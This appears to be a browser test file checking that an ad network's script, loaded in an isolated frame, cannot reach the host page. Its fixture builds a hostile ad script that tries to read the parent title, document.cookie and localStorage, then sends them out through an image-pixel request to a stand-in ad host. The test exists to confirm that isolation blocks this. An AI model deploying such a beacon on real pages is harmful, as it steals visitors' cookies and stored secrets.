/** The network's script in a frame of its own, in the engines that the other journeys do not drive. */
import { until as arrives } from '../../../scripts/lib/until.mjs';
import { AD_SOURCE } from '../../support/companion/hostileScripts';
import { type Front, startFront } from '../../support/companion/front';
import { bundleVariant } from '../../support/companion/variant';
import { networkOptions, setUpNetwork } from '../../support/companion/visit';
import { until } from '../../support/engines/engine';
import { inEngines } from '../../support/engines/inEngines';
import { PAGE_KINDS } from '../../support/site';

const network = setUpNetwork();
let front: Front | undefined;

beforeAll(async () => {
  front = await startFront();
  front.variant = await bundleVariant(
    networkOptions(network(), {
      ads: { network: { isolation: 'frame', hosts: [new URL(front.url('')).hostname] } },
    }),
  );
});
afterAll(() => front?.close());

/** An ad whose script tells the network its origin, and what it finds of the page. */
const tellingSource = (): string => `${AD_SOURCE}
const seen = [() => parent.document.title, () => document.cookie, () => localStorage.secret]
  .map((look) => { try { return look() || 'nothing'; } catch { return 'nothing'; } });
new Image().src = ${JSON.stringify(network().origin)} + '/pixel/told/' + [self.origin, ...seen].join();
`;

const BLOCK = `document.querySelector('[data-companion-room]')`;

inEngines(['Firefox', 'WebKit'], {
  'the ad is shown in the frame, the page hears of it, and its script reaches nothing else': async (
    engine,
  ) => {
    // A file of the same origin: a page would ask for an ad of its own, at any time.
    await engine.goto(front?.url('/robots.txt') ?? '');
    await engine.evaluate(`document.cookie = localStorage.secret = 'secret=kept'`);
    network().set({ source: tellingSource() });
    await engine.goto(front?.url(PAGE_KINDS.text) ?? '');
    // The class and the link come with the frame's message.
    await until(engine, `${BLOCK}.querySelector('.ad-framed.carbonads') !== null`, 'the message');
    const link = `${BLOCK}.querySelector('a.ad-cover')`;
    expect(await engine.evaluate(`${link}.href`)).toBe(
      'https://ads.fake-network.test/click/script',
    );
    await until(engine, `${link}.dataset.gaEventLabel === 'carbon-body-top-image'`, 'its label');
    const isOnTop = `(() => {
      const { x, y, width, height } = ${BLOCK}.querySelector('iframe.ad-frame').getBoundingClientRect();
      return document.elementFromPoint(x + width / 2, y + height / 2) === ${link};
    })()`;
    expect(await engine.evaluate(isOnTop)).toBe(true);
    const told = (): string[] =>
      network()
        .requests()
        .flatMap(({ url }) => url.split('/pixel/told/')[1] ?? []);
    await arrives(told, ({ length }) => length > 0);
    expect(told()).toEqual(['null,nothing,nothing,nothing']);
  },
});
